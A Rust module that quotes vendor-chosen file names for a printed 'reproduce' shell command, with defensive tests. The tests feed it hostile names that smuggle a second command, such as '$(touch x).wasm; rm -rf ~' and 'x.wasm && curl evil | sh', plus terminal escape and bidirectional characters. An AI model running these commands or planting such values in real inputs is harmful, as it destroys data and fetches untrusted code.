//! The shell commands a report stores and the CLI prints, every argument quoted for a POSIX shell.
//!
//! A report's `reproduce` line names the component's file name, which a vendor chooses: an upload
//! called `$(touch x).wasm; rm -rf ~` must not become a command that a reviewer runs by copying
//! it. Every argument is quoted with [`shlex`] (single quotes where needed, tested by its authors
//! against bash, dash, zsh, mksh and busybox ash). A name that no quoting makes safe to paste into
//! a terminal — one with control characters, which a terminal may act on even inside quotes, or
//! with bidirectional or invisible format characters, which make the printed text differ from
//! what runs ([`crate::text`]) — is replaced by [`PLACEHOLDER`].
//!
//! ```
//! use sandkasse_suite::command::reproduce;
//! assert_eq!(reproduce("adapter.wasm", 42), "sandkasse test adapter.wasm --seed 42");
//! assert_eq!(
//!     reproduce("$(touch x).wasm; rm -rf ~", 7),
//!     "sandkasse test '$(touch x).wasm; rm -rf ~' --seed 7"
//! );
//! assert_eq!(reproduce("a\u{202e}lmx.wasm", 7), "sandkasse test ADAPTER.wasm --seed 7");
//! ```

use std::borrow::Cow;

/// The file name printed instead of one that is empty or cannot be pasted safely.
pub const PLACEHOLDER: &str = "ADAPTER.wasm";

/// Whether `text` shows as what it is (the rule of [`crate::text`]).
pub use crate::text::is_plain_text;

/// One argument quoted for a POSIX shell; `None` for one that cannot be pasted safely.
pub fn quote(word: &str) -> Option<Cow<'_, str>> {
    if !is_plain_text(word) {
        return None;
    }
    // A plain word has no NUL (a control character), the only input shlex refuses.
    shlex::try_quote(word).ok()
}

/// The command that reproduces a run of the component called `file_name` with data seed `seed`.
pub fn reproduce(file_name: &str, seed: u64) -> String {
    let name = if file_name.is_empty() {
        Cow::Borrowed(PLACEHOLDER)
    } else {
        quote(file_name).unwrap_or(Cow::Borrowed(PLACEHOLDER))
    };
    format!("sandkasse test {name} --seed {seed}")
}

/// `command` narrowed to one scenario.
pub fn with_scenario(command: &str, scenario: &str) -> String {
    let scenario = quote(scenario).unwrap_or(Cow::Borrowed("''"));
    format!("{command} --scenario {scenario}")
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Splitting the command as a shell would gives back the exact file name as one word.
    #[test]
    fn a_hostile_name_stays_one_word() {
        for name in [
            "$(touch x).wasm; rm -rf ~",
            "`id`.wasm",
            "a'b\".wasm",
            "x.wasm && curl evil | sh",
            "~root/*.wasm",
            "navn med mellomrom.wasm",
        ] {
            let cmd = reproduce(name, 3);
            let words = shlex::split(&cmd).expect("parses");
            assert_eq!(words, ["sandkasse", "test", name, "--seed", "3"], "{cmd}");
            let narrowed = with_scenario(&cmd, "logg-personvern");
            assert_eq!(shlex::split(&narrowed).expect("parses").len(), 7);
        }
    }

    #[test]
    fn unpastable_names_become_the_placeholder() {
        for name in [
            "",
            "a\nb.wasm",
            "a\u{1b}[2Jb.wasm",
            "x\u{202e}mvaw.sh",
            "a\0b",
        ] {
            assert_eq!(reproduce(name, 1), "sandkasse test ADAPTER.wasm --seed 1");
        }
    }
}
